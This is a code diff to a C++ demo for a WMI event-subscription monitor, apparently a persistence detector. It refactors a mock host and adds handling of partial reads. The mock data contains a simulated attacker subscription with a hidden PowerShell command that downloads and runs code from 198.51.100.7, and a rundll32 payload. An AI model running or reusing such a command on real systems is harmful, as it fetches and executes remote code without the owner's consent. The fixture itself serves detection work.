@@ -15,6 +15,7 @@
 #include <wmisub/wmisub.hpp>
 
 #include <algorithm>
+#include <atomic>
 #include <chrono>
 #include <cstdio>
 #include <cstdlib>
@@ -43,16 +44,18 @@ class scripted_host final : public wmisub::collector {
 public:
     [[nodiscard]] std::string name() const override { return "scripted-host"; }
 
-    wmisub::result<wmisub::snapshot> collect(const wmisub::collect_options& options) override {
+protected:
+    wmisub::result<void> read(wmisub::collect_sink& sink) const override {
         wmisub::mock_collector host("scripted-host");
         // A vendor's subscription present all along: it must never be reported.
         host.filter("Contoso Inventory", "SELECT * FROM __TimerEvent WHERE TimerId = 'ContosoInventory'")
             .interval_timer("ContosoInventory", 14'400'000)
             .command_line_consumer("Contoso Inventory", "\"C:\\Program Files\\Contoso\\invagent.exe\" --refresh")
             .bind("Contoso Inventory", "Contoso Inventory");
-        if (round_ == 1 || round_ == 2) {
+        const int round = round_++;  // the demo host changes at every collection
+        if (round == 1 || round == 2) {
             // Rounds 1-2: the attacker's boot-time subscription; round 2 changes its payload.
-            const char* payload = round_ == 1 ? "powershell.exe -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\""
+            const char* payload = round == 1 ? "powershell.exe -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\""
                                               : "rundll32.exe C:\\Users\\Public\\a.dll,Start";
             host.filter("Updater", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                                    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
@@ -60,12 +63,17 @@ public:
                 .command_line_consumer("Updater", payload)
                 .bind("Updater", "Updater");
         }
-        ++round_;
-        return host.collect(options);
+        auto got = host.collect(sink.options());
+        if (!got) return std::move(got).error();
+        for (auto& f : got->filters) sink.add(wmisub::wmi_object{std::move(f)});
+        for (auto& c : got->consumers) sink.add(wmisub::wmi_object{std::move(c)});
+        for (auto& b : got->bindings) sink.add(wmisub::wmi_object{std::move(b)});
+        for (auto& t : got->timers) sink.add(wmisub::wmi_object{std::move(t)});
+        return {};
     }
 
 private:
-    int round_ = 0;
+    mutable std::atomic<int> round_{0};
 };
 
 // The agent's loop: collect, diff against the last state, call back on change.
@@ -84,8 +92,9 @@ int run_loop(wmisub::collector& source, int rounds, std::chrono::milliseconds in
         // Never let one collection overrun the next round (COM calls can hang; wmisub bounds them).
         options.deadline = std::chrono::steady_clock::now() + interval + std::chrono::seconds(30);
         auto snap = source.collect(options);
-        if (!snap) {  // keep the last good state: a failed read is not "everything was removed"
-            std::fprintf(stderr, "round %d: %s\n", round, snap.error().to_string().c_str());
+        if (!snap || snap->partial()) {  // keep the last good state: a failed or cut-short read is not "removed"
+            std::fprintf(stderr, "round %d: %s\n", round,
+                         (snap ? *snap->stopped : snap.error()).to_string().c_str());
             ++failures;
             continue;
         }
